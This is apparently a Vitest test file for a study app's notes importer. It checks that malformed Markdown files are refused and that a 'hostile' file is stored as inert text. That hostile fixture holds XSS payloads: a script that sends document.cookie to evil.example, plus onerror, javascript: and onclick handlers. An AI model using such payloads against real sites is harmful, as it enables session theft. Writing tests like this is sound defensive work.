// Files Proctor cannot use, through dispatch on a real SQLite file: each gets a clear message, and the notes already
// imported and every correction stay exactly as they were. A hostile file is imported as text: what would run or
// fetch is never kept active (see the renderer test of the viewer), and corrections survive.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { DrillQuestion, ReviewItem } from '../../electron/api/types';
import { call, ROOT, testBackend } from '../helpers';

const packId = 'aif-c01';
const reference = readFileSync(join(ROOT, 'tests/fixtures/learner-notes/aws-ai-practitioner-study-notes.md'), 'utf8');
const Q = 'review-assistant-translation-metric';

type T = Awaited<ReturnType<typeof testBackend>>;
let t: T;

function snapshot() {
  const db = t.backend.db;
  return {
    sections: db.prepare("SELECT * FROM note_sections WHERE source = 'user' ORDER BY position").all(),
    settings: db.prepare("SELECT * FROM settings WHERE key LIKE 'learner-notes:%'").all(),
    corrections: db.prepare('SELECT * FROM note_corrections').all(),
  };
}

async function review(): Promise<ReviewItem> {
  const q = await call<DrillQuestion>(t.backend, 'drill.next', { packId, questionIds: [Q] });
  return call<ReviewItem>(t.backend, 'drill.answer', { packId, questionId: Q, response: { kind: 'single', choice: q.item.options![0]!.id }, displayOrder: q.item.options!.map((o) => o.id) });
}

beforeAll(async () => {
  t = await testBackend({ packsDir: join(ROOT, 'questions') });
  await call(t.backend, 'notes.importLearner', { packId, fileName: 'study.md', markdown: reference });
  await call(t.backend, 'notes.correctLink', { packId, questionId: Q, slug: 'note-on-benchmark-datasets' });
});

const headings = (n: number) => Array.from({ length: n }, (_, i) => `## Heading ${i}\ntext ${i}\n`).join('\n');

describe('bad notes files change nothing', () => {
  const cases: [string, string, string, RegExp][] = [
    ['binary', 'photo.md', '\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR\u0000\u0001', /looks like a binary file/],
    ['empty', 'empty.md', '   \n\n', /is empty/],
    ['over the size limit', 'huge.md', `# Big\n${'x'.repeat(2_000_001)}`, /at most 2 million characters/],
    ['not UTF-8, not repairable', 'latin1.md', '# Caf\uFFFD notes\nna\uFFFDve \uFFFDt\uFFFD', /is not UTF-8 text/],
    ['without headings', 'list.md', '- just\n- a list\n', /has no Markdown headings/],
    ['with 5,000 headings', 'many.md', `# Many\n${headings(5000)}`, /more than 2,000 headings/],
  ];
  for (const [what, fileName, markdown, message] of cases) {
    it(`refuses a file ${what} with a clear message`, async () => {
      const before = snapshot();
      const r = await t.backend.dispatch('notes.importLearner', { packId, fileName, markdown });
      expect(r.ok).toBe(false);
      expect(!r.ok && r.error.message).toMatch(message);
      expect(snapshot()).toEqual(before);
      expect((await review()).learnerNote).toMatchObject({ title: 'Note on Benchmark Datasets', corrected: true });
    });
  }

  it('imports a hostile file as inert text and keeps every correction', async () => {
    const hostile = [
      '# Notes',
      '<script>fetch("https://evil.example/x?c=" + document.cookie)</script>',
      '## Note on Benchmark Datasets',
      '<img src="https://evil.example/pixel.png" onerror="alert(1)">',
      '[click](javascript:alert(1)) and [remote](https://evil.example/page)',
      '<iframe src="https://evil.example"></iframe><a href="#" onclick="alert(2)">x</a>',
    ].join('\n');
    const before = snapshot().corrections;
    await call(t.backend, 'notes.importLearner', { packId, fileName: 'hostile.md', markdown: hostile });
    expect(snapshot().corrections).toEqual(before);
    // The correction is found again by its heading in the new file.
    expect((await review()).learnerNote).toMatchObject({ file: 'hostile.md', title: 'Note on Benchmark Datasets', corrected: true });
  });
});
